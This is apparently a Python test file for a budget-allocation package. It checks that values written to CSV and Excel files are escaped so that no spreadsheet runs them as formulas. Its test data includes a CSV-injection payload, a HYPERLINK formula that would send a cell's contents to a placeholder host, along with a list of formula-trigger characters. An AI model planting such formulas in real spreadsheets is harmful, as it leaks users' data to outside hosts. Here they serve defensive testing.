"""No cell that we write is run by a spreadsheet, and each is read back as it was."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import allocator
from allocator.formats import csv_text, saving
from allocator.importers.writing import Table
from allocator.report.comparison import write_comparison
from allocator.report.files import write_plan
from allocator.spreadsheet import csv_of, guarded, holds_guarded, unguarded

EVIL = '=HYPERLINK("http://exemple.invalid?"&A1)'
RUN = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
TEXTS = st.one_of(st.text(), st.text(alphabet="'=+-@\t\r\n0123456789 ,.%€Ae＝"))


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula, said apart from `guarded`: a sum of numbers is one too."""
    try:
        float(cell.strip("%€").replace(" ", "").replace("\u00a0", "").replace("\u202f", "").replace(",", "."))
    except ValueError:
        return cell.startswith(RUN)
    return cell.startswith(("=", "@", "\t", "\r", "\n"))


@given(TEXTS)
def test_every_text_comes_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not runs(cell)
    assert holds_guarded(cell) or cell == text


@pytest.mark.parametrize("number", ["-5", "+5", "-1 234,50", "-1.5e-7", "+10 %", "-3 €"])
def test_numbers_stay_numbers(number: str) -> None:
    assert guarded(number) == number


@given(st.lists(TEXTS, min_size=1, max_size=4), TEXTS)
def test_a_table_comes_back(cells: list[str], header: str) -> None:
    table = pd.DataFrame({header: cells, "cents": range(len(cells))})
    written = csv_of(table)
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert [[unguarded(cell) for cell in row] for row in rows] == [
        [header, "cents"],
        *([cell, str(k)] for k, cell in enumerate(cells)),
    ]
    assert not any(runs(cell) for row in rows for cell in row)


def evil() -> allocator.Scenario:
    """Every name that a scenario may give begins a formula."""
    territories = pd.DataFrame(
        {"id": ["=t1", "@t2"], "name": [EVIL, "-Vallée"], "region": "+R", "departement": "-D", "population": 100}
    )
    demands = pd.DataFrame(
        {"id": ["=d1", "'=d2"], "territory": ["=t1", "@t2"], "measure": "m", "units": 1, "asked": 100,
         "=emplois": [1, 2], "note": [EVIL, "-1+1"]}
    )  # fmt: skip
    return allocator.Scenario(
        "essai", [2026], [{"id": "f", "amount": 150, "label": EVIL}], [{"id": "m", "label": "@m"}], territories, demands,
        [{"kind": "ceiling", "id": "plafond", "on": {"where": {"region": "+R"}}, "amount": 120, "label": "=1+1"}],
        {"maximise": {"=emplois": 1}}, label=EVIL,
    )  # fmt: skip


def cells_of(folder: Path) -> list[str]:
    found = []
    for file in folder.rglob("*.csv"):
        found += [cell for row in csv.reader(io.StringIO(file.read_text("utf-8"), newline="")) for cell in row]
    return found


def formulas(book: Path) -> list[str]:
    read = openpyxl.load_workbook(book)
    return [str(cell.value) for sheet in read for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_scenario_keeps_its_names(tmp_path: Path) -> None:
    scenario = evil()
    saving.save(scenario, tmp_path / "dossier")
    saving.save(scenario, tmp_path / "classeur.xlsx")
    written = cells_of(tmp_path / "dossier")
    assert len(written) > 20 and not [cell for cell in written if runs(cell)]
    assert formulas(tmp_path / "classeur.xlsx") == []
    for at in ("dossier", "classeur.xlsx"):
        again = allocator.load(tmp_path / at)
        assert again.input_hash == scenario.input_hash
        assert set(again.demands["note"]) == {EVIL, "-1+1"}


def test_results_run_nothing(tmp_path: Path) -> None:
    plan = allocator.solve(evil())
    write_plan(plan, tmp_path / "plan")
    write_comparison(allocator.compare([plan, plan]), tmp_path / "comparaison")
    written = cells_of(tmp_path)
    assert "'=d1" in written and "''=d2" in written
    assert not [cell for cell in written if runs(cell)]
    for book in tmp_path.rglob("*.xlsx"):
        assert formulas(book) == []
        with zipfile.ZipFile(book) as inside:
            assert not [name for name in inside.namelist() if "externalLink" in name]

    # a later plan that looks back to this one finds its demands by their names
    later = evil()
    rule = {"kind": "continuity", "id": "suite", "reference": str(tmp_path / "plan"), "max_change": 0}
    again = allocator.solve(later.with_(constraints=[*later.constraints, rule]))
    assert again.grants["cents"].tolist() == plan.grants["cents"].tolist()


def test_imports_and_own_tables() -> None:
    text = Table(["id", "=nom"], [["=d1", "-x"], ["@d2", "-5"]]).text()
    read = csv_text.read(text.encode(), "t.csv", ["id"])
    assert read.header == ["id", "=nom"]
    assert read.rows == [["=d1", "-x"], ["@d2", "-5"]]
    assert not [cell for row in csv.reader(io.StringIO(text)) for cell in row if runs(cell)]
